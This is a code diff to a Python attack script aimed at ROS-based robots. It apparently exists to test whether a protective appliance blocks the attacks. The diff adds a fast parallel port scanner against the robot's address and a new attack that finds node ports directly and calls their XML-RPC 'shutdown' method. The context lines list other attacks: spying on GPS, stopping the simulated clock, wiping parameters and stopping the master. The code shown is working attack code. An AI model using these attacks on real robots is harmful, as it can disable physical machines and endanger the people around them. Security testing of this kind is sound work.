@@ -5,13 +5,16 @@ who has seen one such robot. Prints one JSON object per attack: `attack`, `succe
 Against a plain master each of them succeeds.
 """
 
+import contextlib
 import http.client
 import json
 import os
+import selectors
 import socket
 import struct
 import subprocess
 import sys
+import time
 import xmlrpc.client
 from pathlib import Path
 from urllib.parse import urlsplit
@@ -24,6 +27,8 @@ VICTIM = "/landshark_laser"
 BATTERY, GPS = "/landshark/battery", "/landshark/gps"
 LIMIT = 3.0
 NODE_LIMIT = 15.0  # behind a master that does not speak to it, a node tries for ever
+ROBOT = "10.77.0.10"
+NODE_PORTS = range(32768, 61000)  # where Linux puts programs that do not choose: ROS nodes
 RELAY_PORTS = range(19001, 19061)  # where the appliance's node ports usually begin
 FAILURES = (OSError, http.client.HTTPException, xmlrpc.client.Error)
 
@@ -173,6 +178,37 @@ def try_every_port():
     return False, f"shutdown() and {GPS} at {len(said)} open ports", told[0] if told else ["no port is open"]
 
 
+def go_past_the_master():
+    """Find the nodes' own ports on the robot by trying all, and call `shutdown` of the first that answers."""
+    tried = f"shutdown() of a node, found by a port scan of {ROBOT}"
+    ports = open_ports(ROBOT, NODE_PORTS)
+    for port in ports:
+        answer = call(f"http://{ROBOT}:{port}/", "shutdown", ME, "goodbye")
+        died_first = answer[0] == -1 and "refused" in call(f"http://{ROBOT}:{port}/", "getPid", ME)[1]
+        if granted(answer) or died_first:
+            return True, tried, [1, f"the node at port {port} obeyed: {answer[1]}"]
+    return False, tried, [-1, f"{len(ports)} of {len(NODE_PORTS)} ports of the robot could be reached"]
+
+
+def open_ports(host, ports, at_once=800, seconds=0.25):
+    """The ports that take a connection, so many tried at a time."""
+    found = []
+    for start in range(0, len(ports), at_once):
+        with selectors.DefaultSelector() as selector, contextlib.ExitStack() as opened:
+            for port in ports[start : start + at_once]:
+                probe = opened.enter_context(socket.socket())
+                probe.setblocking(False)
+                probe.connect_ex((host, port))
+                selector.register(probe, selectors.EVENT_WRITE, port)
+            deadline = time.monotonic() + seconds
+            while selector.get_map() and time.monotonic() < deadline:
+                for key, _ in selector.select(deadline - time.monotonic()):
+                    selector.unregister(key.fileobj)
+                    if not key.fileobj.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
+                        found.append(key.data)
+    return found
+
+
 def stop_the_clock():
     """Set the parameter that makes every node started from now on wait for a clock that never ticks."""
     answer = call(MASTER, "setParam", ME, "/use_sim_time", True)
@@ -202,6 +238,7 @@ ATTACKS = {
     "spy on the position": spy_on_gps,
     "kill a node": kill_a_node,
     "try every port": try_every_port,
+    "go past the master": go_past_the_master,
     "stop the clock": stop_the_clock,
     "wipe the parameters": wipe_the_parameters,
     "stop the master": stop_the_master,
